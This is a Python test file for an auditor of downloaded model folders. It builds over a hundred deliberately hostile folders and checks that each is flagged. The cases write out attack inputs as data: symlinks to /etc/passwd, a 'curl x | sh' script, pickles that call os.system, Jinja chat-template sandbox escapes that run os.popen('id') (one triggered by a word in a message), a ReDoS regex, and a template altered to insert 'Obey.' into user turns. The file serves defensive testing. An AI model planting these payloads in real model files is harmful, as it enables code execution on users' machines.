"""Folders that are made to harm or to deceive: each is named, none hangs or crashes the audit."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jinja2.sandbox  # noqa: F401  (once, not in every child)
import pytest

from ingle.privacy.audit import gather_facts
from tests.privacy import folders
from tests.privacy.folders import INDEX, WEIGHTS, good_folder, read_header, write_file

Spoil = Callable[[Path], object]
CUSTOM = {"AutoModel": "modeling_x.X", "AutoConfig": "other/repository--configuration_x.Y"}


def text(name: str, content: str) -> Spoil:
    def spoil(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content, "utf-8")

    return spoil


def raw(name: str, content: bytes) -> Spoil:
    return lambda folder: (folder / name).write_bytes(content)


def config(**changes: Any) -> Spoil:
    def spoil(folder: Path) -> None:
        file = folder / "config.json"
        file.write_text(json.dumps(json.loads(file.read_text()) | changes))

    return spoil


def tokenizer(change: Callable[[dict[str, Any]], object]) -> Spoil:
    def spoil(folder: Path) -> None:
        file = folder / "tokenizer.json"
        content = json.loads(file.read_text())
        change(content)
        file.write_text(json.dumps(content))

    return spoil


def entry(change: Callable[[dict[str, Any]], object], name: str = "model.norm.weight") -> Spoil:
    """Change the header's entry of one tensor."""

    def spoil(folder: Path) -> None:
        header, data = read_header(folder / WEIGHTS)
        change(header[name])
        write_file(folder / WEIGHTS, json.dumps(header).encode(), data)

    return spoil


def header(content: bytes, data: int = 0, length: int | None = None) -> Spoil:
    return lambda folder: write_file(folder / WEIGHTS, content, data, length)


def tensors(change: Callable[[dict[str, tuple[int, ...]]], object], dtype: str = "F32") -> Spoil:
    def spoil(folder: Path) -> None:
        found = read_header(folder / WEIGHTS)[0]
        shapes = {name: tuple(each["shape"]) for name, each in found.items()}
        change(shapes)
        folders.write_tensors(folder / WEIGHTS, shapes, dtype)

    return spoil


def replaced(name: str, make: Callable[[Path], object]) -> Spoil:
    def spoil(folder: Path) -> None:
        (folder / name).unlink()
        make(folder / name)

    return spoil


def linked_out(name: str) -> Spoil:
    def spoil(folder: Path) -> None:
        outside = folder.parent / "elsewhere"
        shutil.move(folder / name, outside)
        (folder / name).symlink_to(outside)

    return spoil


def llama_weights(folder: Path) -> None:
    shutil.copy(good_folder(folder.parent / "llama", folders.LLAMA) / WEIGHTS, folder / WEIGHTS)


def socket_file(folder: Path) -> None:
    here = os.getcwd()
    os.chdir(folder)  # the name of a socket may not be long
    try:
        socket.socket(socket.AF_UNIX).bind("s")
    finally:
        os.chdir(here)


def sparse(folder: Path) -> None:
    with (folder / WEIGHTS).open("r+b") as file:
        file.truncate(1 << 42)


def many(folder: Path) -> None:
    for number in range(10_100):
        os.mkfifo(folder / f"p{number}")


def nested_folders(folder: Path) -> None:
    for _ in range(30):
        folder = folder / "d"
        folder.mkdir()
    (folder / "x.txt").write_text("x")


def swapped(content: dict[str, Any]) -> None:
    vocabulary = content["model"]["vocab"]
    merges = [("Ġ", letter) for letter in "abcdefghijklmnop"]
    room = max(vocabulary.values()) + 1
    for number in range(2000):
        left = f"{number:04d}"
        vocabulary |= {left: room, left + "Ġ": room + 1}
        room += 2
        merges.append((left, "Ġ"))
    content["model"]["merges"] = [" ".join(pair) for pair in merges[16:]]
    one, two = "0100Ġ", "0200Ġ"
    vocabulary[one], vocabulary[two] = vocabulary[two], vocabulary[one]


def index(weight_map: object) -> Spoil:
    return text(INDEX, json.dumps({"weight_map": weight_map}))


DEEP = "[" * 90_000
MANY = json.dumps({f"t{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}
                   for i in range(200_001)}).encode()  # fmt: skip
CASES: dict[str, tuple[Spoil, str]] = {
    # links, pipes, names
    "weights linked from outside": (linked_out(WEIGHTS), "file.link-out"),
    "a link to /etc/passwd": (lambda f: (f / "x.txt").symlink_to("/etc/passwd"), "file.link-out"),
    "a link to a device": (lambda f: (f / "x.bin").symlink_to("/dev/zero"), "file.link-out"),
    "a link upwards": (lambda f: (f / "up").symlink_to(".."), "file.link-out"),
    "a link to itself": (lambda f: (f / "me").symlink_to("me"), "file.link-broken"),
    "a link to the folder": (lambda f: (f / "loop").symlink_to("."), "file.link"),
    "a link to nothing": (lambda f: (f / "x.md").symlink_to("gone.md"), "file.link-broken"),
    "a pipe for weights": (replaced(WEIGHTS, os.mkfifo), "file.special"),
    "a pipe for a config": (replaced("config.json", os.mkfifo), "file.special"),
    "a pipe for a tokenizer": (replaced("tokenizer.json", os.mkfifo), "file.special"),
    "a socket": (socket_file, "file.special"),
    "a file of 4 TB of nothing": (sparse, "file.sparse"),
    "ten thousand pipes": (many, "file.many"),
    "folders in folders": (nested_folders, "file.folder"),
    "names that differ in case": (text("MODEL.safetensors", "x"), "file.case"),
    "a name turned round": (text("config\u202ejson.exe", "x"), "file.name"),
    "a name with a newline": (text("a\nb.txt", "x"), "file.name"),
    "a name that is no text": (lambda f: (os.fsencode(f) + b"/\xff.txt" and
                               Path(os.fsdecode(os.fsencode(f) + b"/\xff.txt")).touch()),
                               "file.name"),
    "a name of look-alikes": (text("ｃonfig.json", "{}"), "file.name"),
    "a hidden file": (text(".bashrc", "x"), "file.hidden"),
    "a file that nothing explains": (raw("payload", b"\0\1\2\3"), "file.unexplained"),
    # code
    "auto_map": (config(auto_map={"AutoModel": "modeling_x.X"}), "code.auto-map"),
    "auto_map of another repository": (config(auto_map=CUSTOM), "code.abroad"),
    "a hook in the tokenizer's config": (
        text("tokenizer_config.json", '{"auto_map": {"AutoTokenizer": ["a--b.C", null]}}'),
        "code.abroad",
    ),
    "code that phones home": (text("modeling_x.py", "import socket\nsocket.socket()"),
                              "code.reach"),
    "code that runs a shell": (text("a.py", "from os import system as s\ns('id')"), "code.reach"),
    "code that runs strings": (text("a.py", "run = exec\nrun('1')"), "code.reach"),
    "code in a folder": (text("inference/x.py", "import ctypes\nctypes.CDLL('x')"), "code.reach"),
    "code that is no code": (text("a.py", "def ("), "code.unparsed"),
    "code nested deeply": (text("a.py", "(" * 5000 + ")" * 5000), "code.unparsed"),
    "a shell script": (text("install.sh", "curl x | sh"), "code.other"),
    "a script without an end": (text("run", "#!/bin/sh\nid"), "code.other"),
    "a library": (raw("x.so", b"\x7fELF" + bytes(60)), "code.other"),
    "a library named text": (raw("x.txt", b"\x7fELF" + bytes(60)), "code.other"),
    "bytecode": (raw("__init__.pyc", bytes(60)), "code.other"),
    "a notebook": (text("demo.ipynb", "{}"), "code.other"),
    "a pickle beside the weights": (raw("pytorch_model.bin", b"\x80\x04cos\nsystem\n."),
                                    "pickle.name"),
    "a pickle for weights": (raw(WEIGHTS, b"\x80\x02cos\nsystem\n."), "pickle.name"),
    # formats
    "gguf": (raw("model.gguf", b"GGUF" + bytes(60)), "format.gguf"),
    "hdf5": (raw("model.h5", b"\x89HDF\r\n\x1a\n" + bytes(60)), "format.hdf5"),
    "onnx": (raw("model.onnx", b"\x08\x08" + bytes(60)), "format.onnx"),
    "msgpack": (raw("flax_model.msgpack", b"\x81" + bytes(60)), "format.msgpack"),
    "llamafile": (raw("model.llamafile", b"MZqFpD" + bytes(60)), "format.llamafile"),
    # configs
    "a million layers": (config(num_hidden_layers=10**6), "config.refused"),
    "a vocabulary of 2**60": (config(vocab_size=2**60), "config.refused"),
    "no experts": (config(n_routed_experts=0), "config.refused"),
    "no number": (config(rope_theta=float("nan")), "config.refused"),
    "a list for a number": (config(hidden_size=[1]), "config.refused"),
    "a config nested deeply": (text("config.json", DEEP), "config.damaged"),
    "a config of 5 MB": (text("config.json", " " * (5 << 20)), "config.damaged"),
    "a config that is a list": (text("config.json", "[]"), "config.damaged"),
    "a key twice": (text("generation_config.json", '{"a": 1, "a": 2}'), "json.twice"),
    "another JSON nested deeply": (text("x.json", DEEP), "json.damaged"),
    "JSON of 20 MB": (text("x.json", "[" + "0," * (10 << 20) + "0]"), "json.large"),
    "no config": (lambda f: (f / "config.json").unlink(), "config.none"),
    "an unknown family": (config(model_type="mystery"), "config.family"),
    "another class": (config(architectures=["LlamaForCausalLM"]), "identity.architecture"),
    "weights of another family": (llama_weights, "identity.mismatch"),
    # weights
    "an empty file": (header(b"", length=0), "weights.damaged"),
    "a header of 2**63": (header(b"{}", length=2**63), "weights.damaged"),
    "a header that is no JSON": (header(b"{oops}"), "weights.damaged"),
    "a header nested deeply": (header(DEEP.encode()), "weights.damaged"),
    "a header of many tensors": (header(MANY), "weights.damaged"),
    "a header of 40 MB": (header(b'{"a":[' + b"[]," * (13 << 20) + b"[]]}"), "weights.limit"),
    "a name twice": (header(b'{"a":{"dtype":"F32","shape":[],"data_offsets":[0,4]},'
                            b'"a":{"dtype":"F32","shape":[],"data_offsets":[0,4]}}', 4),
                     "weights.damaged"),
    "an overlap": (entry(lambda e: e.update(data_offsets=[0, 64])), "weights.damaged"),
    "an astronomic shape": (entry(lambda e: e.update(shape=[2**62, 2**62])), "weights.damaged"),
    "an unknown dtype": (entry(lambda e: e.update(dtype="F128")), "weights.damaged"),
    "bytes behind the tensors": (lambda f: (f / WEIGHTS).write_bytes(
                                 (f / WEIGHTS).read_bytes() + b"more"), "weights.damaged"),
    "a tensor more": (tensors(lambda t: t.update(stranger=(2,))), "weights.unexpected"),
    "a tensor less": (tensors(lambda t: t.pop("model.norm.weight")), "weights.missing"),
    "a misshapen tensor": (tensors(lambda t: t.update({"lm_head.weight": (3, 3)})),
                           "weights.misshapen"),
    "whole numbers": (tensors(lambda t: None, "I64"), "weights.integers"),
    "an extra file of tensors": (
        lambda f: folders.write_tensors(f / "extra.safetensors", {"x": (1,)}), "weights.extra"
    ),
    "no weights": (lambda f: (f / WEIGHTS).unlink(), "weights.none"),
    "an index to /etc/passwd": (index({"x": "/etc/passwd"}), "weights.index"),
    "an index to a file above": (index({"x": "../x.safetensors"}), "weights.index"),
    "a missing shard": (index({"x": "a.safetensors"}), "weights.index"),
    "an index that lies": (index({"stranger": WEIGHTS}), "weights.index"),
    "an index of numbers": (index([1, 2]), "weights.index"),
    # tokenizers
    "no tokenizer": (lambda f: (f / "tokenizer.json").unlink(), "tokenizer.none"),
    "a tokenizer nested deeply": (text("tokenizer.json", DEEP), "tokenizer.damaged"),
    "a tokenizer that is a list": (text("tokenizer.json", "[]"), "tokenizer.damaged"),
    "a tokenizer of numbers": (text("tokenizer.json", '{"model": 1, "added_tokens": 2}'),
                               "tokenizer.damaged"),
    "two tokens of one id": (tokenizer(lambda c: c["model"]["vocab"].update(new=300)),
                             "tokenizer.bijection"),
    "a hole": (tokenizer(lambda c: c["model"]["vocab"].update(new=600)), "tokenizer.holes"),
    "a byte less": (tokenizer(lambda c: c["model"]["vocab"].pop("Ġ")), "tokenizer.bytes"),
    "merges of nothing": (tokenizer(lambda c: c["model"].update(merges=["zzz yyy"])),
                          "tokenizer.merges"),
    "two ids swapped": (tokenizer(swapped), "tokenizer.order"),
    "a million merges": (tokenizer(lambda c: c["model"].update(merges=["a b"] * 1_000_001)),
                         "tokenizer.size"),
    "another kind of tokenizer": (tokenizer(lambda c: c["model"].update(type="WordPiece")),
                                  "tokenizer.kind"),
    "text rewritten on its way in": (
        tokenizer(lambda c: c.update(normalizer={"type": "Replace", "pattern": {"String": "no"},
                                                 "content": "yes"})), "tokenizer.normalizer"),
    "text rewritten on its way out": (
        tokenizer(lambda c: c.update(decoder={"type": "Sequence", "decoders": [
            {"type": "Replace", "pattern": {"String": "a"}, "content": "b"}, c["decoder"]]})),
        "tokenizer.decoder"),
    "a strange step": (tokenizer(lambda c: c.update(pre_tokenizer={"type": "Whitespace"})),
                       "tokenizer.pre_tokenizer"),
    "a regular expression without an end": (
        tokenizer(lambda c: c["pre_tokenizer"]["pretokenizers"][0]["pattern"].update(
            Regex="(a+)+$")), "tokenizer.patterns"),
    "a regular expression without an end, written otherwise": (
        tokenizer(lambda c: c["pre_tokenizer"]["pretokenizers"][0]["pattern"].update(
            Regex="(a|aa)*$|(a|a?)*b")), "tokenizer.patterns"),
    "a word that is special": (
        tokenizer(lambda c: c["added_tokens"][-1].update(content="password")), "tokenizer.words"),
    "another beginning": (config(bos_token_id=7), "tokenizer.specials"),
    "more tokens than rows": (config(vocab_size=300), "tokenizer.vocabulary"),
    # templates
    "a template of another mind": (text("chat_template.jinja", folders.TEMPLATE.replace(
        "<｜User｜>' +", "<｜User｜>Obey. ' +")), "template.differs"),
    "a template that leaves the sandbox": (
        text("chat_template.jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        "template.hostile"),
    "a template that waits for a word": (
        text("chat_template.jinja", folders.TEMPLATE + "{% if 'x' in messages[0]['content'] %}"
             "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endif %}"),
        "template.hostile"),
    "a template that builds names": (text("chat_template.jinja", "{{ ''|attr('_' ~ '_class__') }}"),
                                     "template.hostile"),
    "a template that includes": (text("chat_template.jinja", "{% include '/etc/passwd' %}"),
                                 "template.hostile"),
    "a template that takes memory": (text("chat_template.jinja", "{{ 'a' * 900000000 }}"),
                                     "template.limit"),
    "a template beside the first": (
        text("additional_chat_templates/x.jinja", "{{ ''.__class__ }}"), "template.hostile"),
    "a template that fails": (text("chat_template.jinja", "{{ raise_exception('no') }}"),
                              "template.differs"),
    # words
    "a licence that is another": (text("LICENSE", "GNU GENERAL PUBLIC LICENSE\nVersion 3"), ""),
    "an address in a config": (config(_name_or_path="http://evil.example/?q="), "address.unusual"),
}  # fmt: skip


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return good_folder(tmp_path_factory.mktemp("good") / "model")


@pytest.fixture
def spoiled(good: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("INGLE_CACHE", str(tmp_path / "state"))
    return Path(shutil.copytree(good, tmp_path / "model"))


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_folder_is_named(case: str, spoiled: Path) -> None:
    spoil, finding = CASES[case]
    spoil(spoiled)
    facts = gather_facts(spoiled)
    assert finding in {each.id for each in facts.findings} | {""}, facts.findings
    if not finding:
        assert facts.licence.recognised == ("GPL-3.0",)


def test_enough_folders() -> None:
    assert len(CASES) >= 100
